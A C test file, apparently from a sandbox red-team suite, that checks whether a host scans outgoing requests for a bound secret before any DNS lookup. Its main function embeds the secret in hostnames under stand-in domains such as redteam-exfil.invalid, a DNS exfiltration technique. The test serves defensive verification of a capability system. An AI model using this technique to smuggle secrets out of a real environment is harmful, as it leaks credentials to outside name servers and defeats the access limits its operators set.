/*
 * secret_dns: send the secret out as a DNS query.
 *
 * Grants: network:http://<any>:<any> (host and port "*") and the secret
 * bound to A. The tool asks for http://SECRET.redteam-exfil.invalid/ and
 * http://x.SECRET-x.invalid:80/: under a wildcard grant the host passes
 * the capability check, and if it resolves the name before scanning the
 * request for secrets, the value leaves the machine in a DNS query (to
 * whoever runs the resolver, or the domain's name server) even though the
 * request itself then fails. FAILED with a resolver error means that
 * happened.
 * Proves: the secret scan comes before any network activity, DNS
 * included.
 */
#include <stdio.h>
#include <string.h>

#include "attack.h"

static void try_host(const char *url, const char *label)
{
	http_result res;
	int32_t st = http("GET", url, NULL, NULL, 0, &res);

	if (st == BA_OK || st == BA_FAILED || st == BA_TIMEOUT)
		escaped("%s got past the secret scan to the network: %s (%s)", label,
		        ba_status_name(st), res.error);
	note("%s: %s (%s)", label, ba_status_name(st), res.error);
}

int main(void)
{
	const char *how, *v = learn_secret(&how);
	char url[512];

	note("secret %s", how);
	snprintf(url, sizeof(url), "http://%s.redteam-exfil.invalid/", v);
	try_host(url, "http://SECRET.redteam-exfil.invalid/");
	snprintf(url, sizeof(url), "http://x.%s-x.invalid:80/", v);
	try_host(url, "http://x.SECRET-x.invalid:80/");
	blocked("the secret never reached the resolver");
}
